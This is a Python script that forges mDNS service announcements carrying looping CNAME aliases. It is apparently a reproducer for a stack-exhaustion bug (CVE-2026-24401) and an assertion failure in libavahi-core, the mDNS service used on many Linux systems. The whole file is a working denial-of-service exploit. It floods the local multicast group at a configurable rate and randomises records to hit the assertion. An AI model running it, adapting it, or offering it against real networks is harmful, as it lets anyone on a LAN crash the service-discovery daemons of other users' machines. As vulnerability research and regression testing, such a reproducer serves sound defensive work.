#!/usr/bin/env python3
"""Announces a room and a waiting controller whose host is an alias of itself, as any device on a network can.

usage: forge-cname.py INTERFACE self|ring|diamond [--seconds S] [--rate R] [--seed N]

Each announcement is whole: PTR, SRV to h.local, TXT, and what h.local is an alias (CNAME) of.
  self      h is h: CVE-2026-24401, for which libavahi-core 0.8 recurses until its stack ends
  ring      h is i, and i is h: the same, round two corners
  diamond   h is i and j, which both are z: an assertion of libavahi-core's (browse.c) fails. Which of it is told, in what
            order and for how long, is random, and which of them have addresses; the seed (default 1) is printed
It says `attacking`, goes on for S seconds (default 10) at R announcements a second (default 10), takes back with a
goodbye whatever it said, and says `sent N`. Knows no mDNS library.
"""
import argparse
import random
import socket
import time

from mdns import CNAME, GROUP, PORT, PTR, SRV, TXT, A, packed, record, response, service, speaker, text

TYPES = {b"_roomful": b"Nobody's Room", b"_roomful-pad": b"Nobody's Pad"}
# Who is an alias of whom.
ALIASES = {
    "self": [(b"h", b"h")],
    "ring": [(b"h", b"i"), (b"i", b"h")],
    "diamond": [(b"h", b"i"), (b"h", b"j"), (b"i", b"z"), (b"j", b"z")],
}


def announced(kind, name, ttl):
    """What says that there is such a room, or such a controller, at h.local."""
    type_name, instance = (kind, b"_tcp", b"local"), (name, kind, b"_tcp", b"local")
    strings = [b"txtvers=1", b"v=1", b"id=" + b"5" * 32, b"free=4", b"seats=4", b"policy=open", b"pin=" + b"5" * 64]
    return [
        record(type_name, PTR, packed(instance), ttl, False),
        record(instance, SRV, service(7777, (b"h", b"local")), ttl),
        record(instance, TXT, text(strings), ttl),
    ]


def alias(name, of, ttl, is_unique=False):
    return record((name, b"local"), CNAME, packed((of, b"local")), ttl, is_unique)


def services(ttl):
    return [one for kind, name in TYPES.items() for one in announced(kind, name, ttl)]


def steady(shape):
    # Not unique, so that a name keeps all of its aliases.
    return services(120) + [alias(name, of, 120) for name, of in ALIASES[shape]]


def shifting(luck):
    records = services(luck.choice([120, 120, 1, 0])) if luck.random() < 0.7 else []
    for name, of in luck.sample(ALIASES["diamond"], luck.randint(0, 4)):
        records.append(alias(name, of, luck.choice([0, 1, 1, 2, 120]), luck.random() < 0.3))
    if luck.random() < 0.5:
        place = socket.inet_aton(f"10.77.0.{luck.randint(2, 4)}")
        records.append(record((luck.choice([b"h", b"i", b"j", b"z"]), b"local"), A, place, luck.choice([0, 1, 2, 120]), luck.random() < 0.5))
    luck.shuffle(records)
    return records


def main():
    parser = argparse.ArgumentParser(usage=__doc__)
    parser.add_argument("interface")
    parser.add_argument("shape", choices=sorted(ALIASES))
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--rate", type=float, default=10, help="announcements a second")
    parser.add_argument("--seed", type=int, default=1)
    options = parser.parse_args()
    sender = speaker(options.interface)
    luck = random.Random(options.seed)
    print(f"attacking, seed {options.seed}", flush=True)
    start, sent = time.monotonic(), 0
    while time.monotonic() - start < options.seconds:
        records = shifting(luck) if options.shape == "diamond" else steady(options.shape)
        sender.sendto(response(records), (GROUP, PORT))
        sent += 1
        time.sleep(max(0, start + sent / options.rate - time.monotonic()))
    for _ in range(3):
        goodbye = services(0) + [alias(name, of, 0) for name, of in ALIASES[options.shape]]
        sender.sendto(response(goodbye), (GROUP, PORT))
        time.sleep(0.1)
    print(f"sent {sent}", flush=True)


if __name__ == "__main__":
    main()
